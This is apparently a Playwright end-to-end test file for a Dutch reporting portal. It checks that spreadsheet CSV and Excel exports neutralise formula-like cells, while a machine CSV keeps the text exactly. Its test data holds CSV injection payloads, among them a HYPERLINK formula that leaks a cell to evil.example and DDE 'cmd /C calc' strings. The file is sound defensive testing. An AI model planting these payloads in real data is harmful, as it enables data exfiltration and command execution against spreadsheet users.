import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { csrfToken, intermediarySession, ORIGIN, submitPortalReport, type Session } from "./support";
import { expect, test } from "../e2e/support";

/**
 * Text from the public portal reaches the intermediary's spreadsheet through the exports. Formula-like cells are
 * neutralised (a leading quote) in every export meant for a spreadsheet; the machine CSV stays exact.
 */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Formuletoets: klik hier")',
  "+cmd|' /C calc'!A0 Formuletoets",
  "@SUM(1+1)*cmd|' /C calc'!A0 Formuletoets",
  "-2+3+cmd|' /C calc'!A0 Formuletoets over het budget",
];
// Only this suite's reports: each payload carries the word the export's search looks for.
const VIEW = "/signalen/export?summary=yes&channel=portal&q=Formuletoets";

let staff: Session;

test.beforeAll(async ({ browser, request }) => {
  staff = await intermediarySession(browser);
  for (const [index, payload] of PAYLOADS.entries()) await submitPortalReport(request, { message: payload }, `198.51.100.${120 + index}`);
});

test.afterAll(async () => {
  await staff.context.close();
});

function summariesOf(csv: string, machine = false): string[] {
  const [header, ...rows] = parse(csv.replace(/^\uFEFF/, ""), { delimiter: machine ? "," : ";" }) as string[][];
  const column = header?.indexOf(machine ? "summary" : "Korte samenvatting") ?? -1;
  return rows.map((row) => row[column] ?? "");
}

test("the CSV for spreadsheets neutralises every formula-like cell of portal text", async () => {
  const response = await staff.request.get(VIEW);
  expect(response.status()).toBe(200);
  const csv = await response.text();
  const summaries = summariesOf(csv);
  expect(summaries).toHaveLength(PAYLOADS.length);
  for (const payload of PAYLOADS) expect(summaries).toContain(`'${payload}`);
  const cells = (parse(csv.replace(/^\uFEFF/, ""), { delimiter: ";" }) as string[][]).flat();
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
});

test("the Excel export holds them as neutralised text, never as formulas", async () => {
  const response = await staff.request.get(`${VIEW}&format=xlsx`);
  expect(response.status()).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(await response.body()).buffer);
  const found: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, String(cell.address)).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === "string") {
          expect(cell.value, String(cell.address)).not.toMatch(/^[=+\-@\t\r]/);
          found.push(cell.value);
        }
      }),
    ),
  );
  for (const payload of PAYLOADS) expect(found).toContain(`'${payload}`);
});

test("the machine CSV (?formaat=machine) keeps the text exactly, so it imports back unchanged", async () => {
  const response = await staff.request.get(`${VIEW}&formaat=machine`);
  expect(response.status()).toBe(200);
  expect(response.headers()["content-disposition"]).toMatch(/-machine\.csv"$/);
  const csv = await response.text();
  const summaries = summariesOf(csv, true);
  for (const payload of PAYLOADS) expect(summaries).toContain(payload);
  // The import accepts it as it is (the preview, nothing imported).
  const form = new FormData();
  form.append("intent", "upload");
  form.append("csrf", await csrfToken(staff.request, "/signalen/import"));
  form.append("file", new Blob([csv], { type: "text/csv" }), "machine.csv");
  const upload = await staff.request.post("/signalen/import", { multipart: form, maxRedirects: 0, headers: { Origin: ORIGIN } });
  const preview = await (await staff.request.get(upload.headers()["location"] ?? "/signalen/import")).text();
  expect(preview).toContain(`${PAYLOADS.length}<!-- --> signalen importeren`);
});
